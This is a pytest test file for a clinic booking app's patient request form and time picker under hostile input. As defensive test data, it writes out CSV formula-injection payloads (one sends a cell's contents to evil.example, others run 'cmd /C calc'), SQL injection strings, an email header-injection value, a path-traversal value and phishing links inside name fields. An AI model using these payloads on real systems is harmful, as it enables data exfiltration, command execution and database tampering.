"""The patient's request steps and time picker under hostile input.

Text that is accepted is stored exactly and shown as text everywhere it comes back (the staff
record, the emails, the CSV export); anything refused gets a message on its step and leaves
no row and no file behind.
"""

from __future__ import annotations

import io
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select

from booking.extensions import db
from booking.requests.models import ConsultationRequest, Patient
from tests.hostile.conftest import (
    MARKUP,
    Cases,
    assert_escaped,
    assert_refused,
    csv_rows,
    delivered_html,
    snapshot,
    visible_text,
)
from tests.smtp import SmtpServer
from tests.support import (
    answer_red_flags,
    open_step,
    page_token,
    pdf_bytes,
    post_request,
    step_answers,
    valid_answers,
)


def reference_of(app: Flask) -> str:
    """The newest request's reference (the one the test just sent)."""
    with app.app_context():
        return db.session.scalars(
            select(ConsultationRequest.reference).order_by(ConsultationRequest.id.desc())
        ).first()


def submit(client: FlaskClient, answers: dict[str, Any], files: list | None = None):
    return post_request(client, answers, files)


# Each visible text field, with what else the form needs for that field to be asked for.
TEXT_FIELDS = {
    "full_name": {},
    "guardian_name": {"date_of_birth": "2015-03-01"},
    "diagnosis_other": {"diagnoses": ["other"]},
    "surgery_details": {"treatments": ["spine_surgery"]},
    "imaging_when": {},
    "medications": {},
    "allergies": {},
    "other_history": {},
}


@pytest.mark.parametrize("field", TEXT_FIELDS)
def test_markup_in_a_text_field_is_stored_as_text_and_shown_escaped(
    app: Flask, client: FlaskClient, coordinator: FlaskClient, field: str
) -> None:
    answers = valid_answers(**TEXT_FIELDS[field])
    answers[field] = MARKUP
    assert submit(client, answers).status_code == 303
    page = coordinator.get(f"/staff/requests/{reference_of(app)}").get_data(as_text=True)
    assert_escaped(page, MARKUP)


def test_markup_in_a_document_description_is_shown_escaped(
    app: Flask, client: FlaskClient, coordinator: FlaskClient
) -> None:
    answers = valid_answers()
    answers["documents-0-file"] = (io.BytesIO(pdf_bytes()), "mri.pdf")
    answers["documents-0-description"] = MARKUP
    assert submit(client, answers).status_code == 303
    page = coordinator.get(f"/staff/requests/{reference_of(app)}").get_data(as_text=True)
    assert_escaped(page, MARKUP)


def test_a_markup_name_is_escaped_in_the_delivered_email_html(
    mail_settings: dict[str, Any], app: Flask, client: FlaskClient, smtp: SmtpServer
) -> None:
    assert submit(client, valid_answers(full_name=MARKUP)).status_code == 303
    (html_part,) = delivered_html(app, smtp, "request_received")
    assert_escaped(html_part, MARKUP)


@pytest.mark.parametrize(
    "name",
    [
        # No "@" or "://" (a name cannot hold an address: ``name_only``); a cell starting
        # with "@" is neutralised all the same (tests/test_export.py).
        '=HYPERLINK("evil.example/?x="&A1,"Click")',
        "+49 cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
    ],
    ids=["equals", "plus", "minus"],
)
def test_a_formula_name_is_neutralised_in_the_csv_export(
    app: Flask, client: FlaskClient, coordinator: FlaskClient, name: str
) -> None:
    assert submit(client, valid_answers(full_name=name)).status_code == 303
    ref = reference_of(app)
    (row,) = [r for r in csv_rows(coordinator) if r["reference"] == ref]
    assert row["patient"] == "'" + name
    # ... and the record page shows the name as the patient typed it.
    page = coordinator.get(f"/staff/requests/{ref}").get_data(as_text=True)
    assert name in visible_text(page)


@pytest.mark.parametrize(
    "value",
    [
        "Robert'); DROP TABLE patient;--",
        "' OR '1'='1' --",
        "1; SELECT pg_sleep(10); --",
        "%' UNION SELECT email FROM staff_user --",
    ],
    ids=["drop-table", "or-true", "stacked", "union"],
)
def test_sql_like_text_is_stored_literally(
    app: Flask, client: FlaskClient, coordinator: FlaskClient, value: str
) -> None:
    before = snapshot(app)
    answers = valid_answers(full_name=value, medications=value)
    assert submit(client, answers).status_code == 303
    after = snapshot(app)
    assert after["consultation_request"] == before["consultation_request"] + 1
    assert after["staff_user"] == before["staff_user"]  # every table still there and intact
    ref = reference_of(app)
    assert value in visible_text(coordinator.get(f"/staff/requests/{ref}").get_data(as_text=True))
    # The search takes the same text as a value, never as SQL: it finds this request only.
    found = coordinator.get("/staff/", query_string={"q": value[:100], "status": "all"})
    assert found.status_code == 200
    page = found.get_data(as_text=True)
    assert ref in page and "Erika Mustermann" not in page


UNICODE_NAMES = {
    # (With an override character the name is refused: see REFUSED_ANSWERS.)
    "right-to-left": "\u05d3\u05d5\u05d3 \u0645\u062d\u0645\u062f \u200fEvil",
    "zero-width": "Ma\u200bria\u200d Jos\u00e9\ufeff",
    "emoji": "Zo\u00eb \U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f9b4",
    "combining": "Z\u0351\u0352a\u0300\u0301\u0302l\u0316g\u0317o Ren\u0301e",
    "longest-allowed": ("\U0001f600" * 100 + "\u00c5" * 100),
}


@pytest.mark.parametrize("name", UNICODE_NAMES.values(), ids=UNICODE_NAMES.keys())
def test_unicode_names_are_kept_exactly(
    app: Flask, client: FlaskClient, coordinator: FlaskClient, name: str
) -> None:
    assert submit(client, valid_answers(full_name=name)).status_code == 303
    ref = reference_of(app)
    with app.app_context():
        stored = db.session.scalars(
            select(Patient.full_name)
            .join(ConsultationRequest)
            .where(ConsultationRequest.reference == ref)
        ).one()
    assert stored == name.strip()
    assert_escaped(coordinator.get(f"/staff/requests/{ref}").get_data(as_text=True), stored)
    (row,) = [r for r in csv_rows(coordinator) if r["reference"] == ref]
    assert row["patient"] == stored


REFUSED_ANSWERS = {
    "name-too-long": ({"full_name": "\U0001f600" * 201}, "200 characters"),
    "history-too-long": ({"other_history": "x" * 2001}, "2000 characters"),
    "email-header-injection": (
        {"email": "erika@example.com\r\nBcc: everyone@example.com"},
        "Please enter a valid email address",
    ),
    "email-markup": ({"email": "<script>@example.com"}, "Please enter a valid email address"),
    "phone-markup": ({"phone": MARKUP}, "Please enter a valid phone number"),
    "only-spaces-name": ({"full_name": " \t \r\n "}, "Please enter your full name."),
    "invisible-name": ({"full_name": "\u200b\u200d\u202e\ufeff"}, "Please enter your full name."),
    "right-to-left-override-name": (
        {"full_name": "\u202eEvil\u202c \u05d3\u05d5\u05d3"},
        "Please remove the line breaks or invisible characters.",
    ),
    # The emails greet the patient by the name typed, at the address typed (anyone's):
    # a name cannot carry a link or an address into them.
    "link-in-name": (
        {"full_name": "Erika. Your scan needs review: sign in at https://evil.example/sc"},
        "Please enter a name only, without a web or email address.",
    ),
    "web-address-in-name": (
        {"full_name": "Erika see WWW.evil.example"},
        "Please enter a name only, without a web or email address.",
    ),
    "email-address-in-guardian-name": (
        {"guardian_name": "Max write to max@evil.example"},
        "Please enter a name only, without a web or email address.",
    ),
    "pain-score-out-of-scale": ({"back_pain_now": "11"}, "Please choose a number from 0 to 10."),
    "contact-method-not-offered": (
        {"preferred_contact": MARKUP},
        "Please choose one of the options shown.",
    ),
    "pain-location-path": (
        {"pain_locations": ["../../etc/passwd"]},
        "Please choose from the options shown.",
    ),
    "weekday-not-offered": ({"preferred_days": ["7"]}, "Please choose from the options shown."),
    "red-flag-maybe": ({"red_bladder_bowel": "maybe"}, "Please answer yes or no."),
    "birth-in-year-one": ({"date_of_birth": "0001-01-01"}, "Please check the year"),
    "birth-date-garbage": (
        {"date_of_birth": "1970-02-30' OR 1=1"},
        "Please enter your date of birth",
    ),
}


@pytest.mark.parametrize(
    ("overrides", "message"), REFUSED_ANSWERS.values(), ids=REFUSED_ANSWERS.keys()
)
def test_refused_answers_get_a_message_and_store_nothing(
    app: Flask, client: FlaskClient, overrides: dict[str, Any], message: str
) -> None:
    before = snapshot(app)
    response = submit(client, valid_answers(**overrides))
    page = assert_refused(response, 422, message)
    assert 'id="error-summary"' in page
    assert "<script>alert" not in page
    assert snapshot(app) == before


def test_a_huge_text_field_is_a_friendly_413_and_stores_nothing(
    app: Flask, client: FlaskClient
) -> None:
    before = snapshot(app)
    response = submit(client, valid_answers(other_history="x" * 3_000_000))
    response.request.environ["wsgi.input"].close()  # the test client spools big bodies
    assert_refused(response, 413, "Your answers are too long")
    assert snapshot(app) == before


def test_thousands_of_form_fields_are_a_friendly_413_and_store_nothing(
    app: Flask, client: FlaskClient
) -> None:
    before = snapshot(app)
    answer_red_flags(client)
    data = {**step_answers("about"), "csrf_token": page_token(open_step(client, "about"))}
    data.update({f"extra-{n}": "1" for n in range(1500)})
    # As multipart, the way the documents step posts: each field is a part to parse.
    response = client.post("/request/steps/about", data=data, content_type="multipart/form-data")
    assert_refused(response, 413, "Nothing was saved")
    assert snapshot(app) == before


@pytest.mark.parametrize(
    "slot",
    [
        "{type}.0.0",
        "{weber}.{location}.86400",
        "{weber}.{location}.99999999999",
        "{okafor}.{first}",
    ],
    ids=["nobody-at-1970", "one-day-after-1970", "year-5138", "specialist-without-hours"],
)
def test_a_forged_time_is_refused_with_fresh_times_and_stores_nothing(
    app: Flask, client: FlaskClient, clinic: Cases, slot: str
) -> None:
    first = clinic.slot_keys[0].split(".", 1)[1]
    key = slot.format(first=first, **clinic.placeholders)
    before = snapshot(app)
    answers = valid_answers(appointment_type=str(clinic.type), slot=key)
    response = submit(client, answers)
    assert_refused(response, 409, "that time is not available for booking")
    assert snapshot(app) == before


@pytest.mark.parametrize(
    "query",
    [
        {"type": MARKUP, "specialist": MARKUP, "from": MARKUP},
        {"type": "99999999999999999999", "from": "0001-01-01"},
        {"specialist": "-1", "from": "9999-12-31"},
        {"from": "2026-02-30", "type": "1 OR 1=1"},
    ],
    ids=["markup", "huge-and-year-one", "negative-and-year-9999", "impossible-date"],
)
def test_the_time_picker_shrugs_off_hostile_parameters(
    client: FlaskClient, clinic: Cases, query: dict[str, str]
) -> None:
    response = client.get("/request/time", query_string=query)
    assert response.status_code == 200
    page = response.get_data(as_text=True)
    assert "<script>alert" not in page and "<img src=x" not in page
    assert 'name="slot"' in page  # still offers times


def test_hostile_picked_time_in_the_form_url_is_escaped(client: FlaskClient, clinic: Cases) -> None:
    # Carried through the first step (its form posts them on) ...
    step = client.get("/request/start", query_string={"type": MARKUP, "slot": MARKUP})
    assert step.status_code == 200
    assert "<script>alert" not in step.get_data(as_text=True)
    # ... and shown (or not) by the time step.
    answer_red_flags(client)
    response = client.get("/request/steps/time", query_string={"type": MARKUP, "slot": MARKUP})
    assert response.status_code == 200
    page = response.get_data(as_text=True)
    assert "<script>alert" not in page and "<img src=x" not in page
